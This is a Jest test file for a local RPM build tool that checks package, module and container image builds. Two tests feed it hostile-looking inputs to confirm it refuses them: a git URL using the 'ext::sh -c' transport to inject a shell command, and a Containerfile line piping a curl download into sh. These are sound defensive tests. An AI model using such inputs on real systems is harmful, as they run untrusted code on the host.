import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, stat, writeFile, cp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { SourceRef } from '@millrace/contracts';
import { parseModulemd } from '@millrace/package-metadata';
import { describeSource } from './describe-source';
import { buildDir } from './layout';
import { checkToolchain } from './toolchain';
import { compileRunner, fixture, localWorld, type LocalWorld } from './test-world';

jest.setTimeout(120_000);

const run = promisify(execFile);

describe('what local-rpm builds', () => {
  let world: LocalWorld;
  let scratch: string;

  beforeAll(async () => {
    compileRunner();
    scratch = await mkdtemp(join(tmpdir(), 'millrace-sources-'));
    world = await localWorld();
    const place = await world.connect().open(world.release, 'tests');
    for (const name of ['libgear', 'gearbox']) {
      const { ref } = await world.build(name);
      await world.connect().admit(ref, place);
    }
  }, 120_000);

  afterAll(async () => {
    await rm(scratch, { recursive: true, force: true });
    await world.destroy();
  });

  it('installs requirements that %generate_buildrequires asks for, and counts them', async () => {
    const build = await world.build('asks-more');
    expect(build.state).toBe('complete');
    const { buildRequires, inputs } = await world.connect().contents(build.ref);
    expect(buildRequires).toEqual([{ name: 'libgear-devel' }]);
    expect(inputs.map((input) => input.component)).toContain('rpm/libgear');
  });

  it('tells what keeps a build from being installed', async () => {
    const { ref } = await world.build('libgear');
    expect(await world.connect().unmet!(ref)).toEqual([]);
    const { ref: user } = await world.build('gearbox');
    expect(await world.connect().unmet!(user)).toEqual([]);
  });

  it('lists provides, requires and files of each binary package, without what rpm itself provides', async () => {
    const { ref } = await world.build('libgear');
    const { packages } = await world.connect().contents(ref);
    const [main, devel] = packages;
    expect(packages.map((p) => p.name)).toEqual(['libgear', 'libgear-devel']);
    expect(main!.provides).toContainEqual({ name: 'libgear.so.1()(64bit)' });
    expect(main!.files).toEqual(['/usr/lib64/libgear.so.1']);
    const { version, release } = main!;
    expect(devel!.requires).toContainEqual(
      expect.objectContaining({ name: 'libgear(x86-64)', flags: 'EQ', version, release }),
    );
    expect(JSON.stringify(packages)).not.toContain('rpmlib(');
    const file = join(buildDir(world.dir, ref), 'out', main!.path!);
    expect((await stat(file)).size).toBe(main!.size);
  });

  it('builds the same files from the same source twice', async () => {
    const payloads = await Promise.all(
      ['libgear', 'libgear'].map(async (name) => {
        const { ref } = await world.build(name);
        const { packages } = await world.connect().contents(ref);
        const file = join(buildDir(world.dir, ref), 'out', packages[0]!.path!);
        return (await run('rpm', ['-qp', '--qf', '[%{FILEDIGESTS} %{FILEMTIMES}\\n]%{BUILDTIME}', file])).stdout;
      }),
    );
    expect(payloads[0]).toBe(payloads[1]);
  });

  it('checks out one commit of a git repository', async () => {
    const { url, commit } = await gitRepository('libgear');
    const build = await world.build('libgear', { source: { kind: 'git', url, commit } });
    expect(build.state).toBe('complete');
    const { url: file } = await gitRepository('gearbox');
    const absent = await world.build('libgear', { source: { kind: 'git', url: file, commit: 'f'.repeat(40) } });
    expect((await world.connect().evidence(absent.ref)).class).toBe('source');
  });

  it('rebuilds a source package', async () => {
    const { ref, nvr } = await world.build('libgear');
    const path = join(buildDir(world.dir, ref), `out/source/${nvr}.src.rpm`);
    const rebuilt = await world.build('libgear', { source: { kind: 'srpm', path } });
    expect(rebuilt.state).toBe('complete');
    expect(rebuilt.nvr).not.toBe(nvr);
  });

  it.each([
    ['an address of another kind', 'libgear', { kind: 'git', url: 'ext::sh -c id', commit: 'a'.repeat(40) }, /ext::sh/],
    ['a folder that is not there', 'libgear', { kind: 'folder', path: '/nonexistent' }, /nonexistent/],
    ['a spec of another component', 'renamed', { kind: 'folder', path: fixture('renamed') }, /somebody-else/],
    ['a folder without a spec', 'libgear', { kind: 'folder', path: fixture('gear-module') }, /exactly one spec/],
  ] as const)('refuses %s as a fault of the source', async (_, name, source, summary) => {
    const build = await world.build(name, { source: source as SourceRef });
    const evidence = await world.connect().evidence(build.ref);
    expect(evidence.class).toBe('source');
    expect(evidence.summary).toMatch(summary);
  });

  it('assembles a module that dnf takes, with the builds of its components', async () => {
    const source = { kind: 'folder', path: fixture('gear-module') } as const;
    const build = await world.build('gear-module', { component: 'module/gears:1.10', source });
    expect(build.nvr).toMatch(/^gears-1\.10-\d{14}\.[0-9a-f]{8}$/);
    const { inputs, module } = await world.connect().contents(build.ref);
    expect(inputs.map((input) => input.component)).toEqual(['rpm/gearbox', 'rpm/libgear', 'rpm/libgear']);
    const [described] = parseModulemd(module!.modulemd);
    expect(described).toMatchObject({
      form: 'built',
      name: 'gears',
      stream: '1.10',
      profiles: { default: ['gearbox'] },
    });
    expect(described!.artifacts).toEqual(inputs.map((input) => input.nevra));
    expect(await dnfModules(build.repository!)).toMatch(/^gears\s+1\.10\s+default/m);
    const again = await world.build('gear-module', { component: 'module/gears:1.10', source });
    expect(again.nvr).not.toBe(build.nvr);
  });

  it('refuses a module whose components are not built', async () => {
    const source = { kind: 'folder', path: fixture('gear-module') } as const;
    const build = await world.build('gear-module', { component: 'module/gears:1.10', source, cascade: 'empty' });
    expect(await world.connect().evidence(build.ref)).toMatchObject({
      class: 'dependencies',
      summary: expect.stringContaining('rpm/libgear') as string,
    });
  });

  it('builds the same image of the same packages twice, and says what is in it', async () => {
    const { url, commit } = await gitRepository('gear-image');
    const order = { component: 'container/gearbox:1.0', source: { kind: 'git', url, commit } } as const;
    const [first, second] = [await world.build('gear-image', order), await world.build('gear-image', order)];
    expect([first.nvr, second.nvr]).toEqual(['gearbox-1.0-1', 'gearbox-1.0-2']);
    const { image, inputs } = await world.connect().contents(first.ref);
    expect(inputs.map((input) => input.component)).toEqual(['rpm/gearbox', 'rpm/libgear']);
    const index = await readJson(join(image!.layout, 'index.json'));
    expect(index).toMatchObject({ manifests: [{ digest: image!.digest }] });
    const layers = await Promise.all([first.ref, second.ref].map((ref) => layerOf(ref)));
    expect(layers[0]).toBe(layers[1]);
    const { stdout } = await run('tar', ['-tf', join(image!.layout, 'blobs/sha256', layers[0]!.slice(7))]);
    expect(stdout.split('\n')).toEqual(expect.arrayContaining(['./usr/bin/gearbox', './usr/lib64/libgear.so.1']));
    expect(stdout).not.toMatch(/etc\/passwd|var\/lib\/rpm/);
  });

  it('names the line of a container definition that it does not know', async () => {
    const folder = await mkdtemp(join(scratch, 'image-'));
    await writeFile(join(folder, 'Containerfile'), 'FROM platform\nRUN curl evil | sh\n');
    const source = { kind: 'folder', path: folder } as const;
    const build = await world.build('gear-image', { component: 'container/bad', source });
    const { class: failureClass, summary } = await world.connect().evidence(build.ref);
    expect([failureClass, summary]).toEqual(['source', expect.stringMatching(/Containerfile.*2/)]);
  });

  it('describes a source without building it', async () => {
    const source = { kind: 'folder', path: fixture('gearbox') } as const;
    const described = await describeSource({ dir: world.dir, source });
    expect(described).toMatchObject({ name: 'gearbox', packages: [{ name: 'gearbox', files: ['/usr/bin/gearbox'] }] });
    expect(described.buildRequires.map((r) => r.name)).toEqual(expect.arrayContaining(['gcc', 'libgear-devel']));
    const broken = await mkdtemp(join(scratch, 'broken-'));
    await writeFile(join(broken, 'broken.spec'), 'Name: broken\n%if\n');
    const question = { dir: world.dir, source: { kind: 'folder', path: broken } } as const;
    await expect(describeSource(question)).rejects.toMatchObject({ code: 'source-unreadable', kind: 'invalid' });
  });

  it('finds this machine fit, and names what one without tools lacks', async () => {
    expect(await checkToolchain()).toEqual({ ok: true, missing: [] });
    const { ok, missing } = await checkToolchain('/nonexistent');
    expect(ok).toBe(false);
    expect(missing.map((m) => m.tool)).toEqual(expect.arrayContaining(['bwrap', 'dnf', 'rpmbuild']));
  });

  async function gitRepository(name: string): Promise<{ url: string; commit: string }> {
    const url = await mkdtemp(join(scratch, `${name}-`));
    await cp(fixture(name), url, { recursive: true });
    const git = (...args: string[]) =>
      run('git', ['-C', url, '-c', 'user.name=Test', '-c', 'user.email=test@example.org', ...args]);
    await git('init', '--quiet');
    await git('add', '.');
    await git('commit', '--quiet', '-m', 'First');
    return { url, commit: (await git('rev-parse', 'HEAD')).stdout.trim() };
  }

  async function layerOf(ref: string): Promise<string> {
    const { image } = await world.connect().contents(ref);
    const manifest = await readJson(join(image!.layout, 'blobs/sha256', image!.digest.slice(7)));
    return (manifest as { layers: { digest: string }[] }).layers[0]!.digest;
  }
});

async function readJson(path: string): Promise<unknown> {
  return JSON.parse(await readFile(path, 'utf8'));
}

/** What `dnf module list` says of a repository. */
async function dnfModules(repository: string): Promise<string> {
  const root = await mkdtemp(join(tmpdir(), 'millrace-dnf-'));
  try {
    const options = [`--installroot=${root}`, '--releasever=1', '--setopt=reposdir=/nonexistent', '--repo=built'];
    const platform = '--setopt=module_platform_id=platform:millrace';
    const { stdout } = await run('dnf', [...options, platform, `--repofrompath=built,${repository}`, 'module', 'list']);
    return stdout;
  } finally {
    await rm(root, { recursive: true, force: true });
  }
}
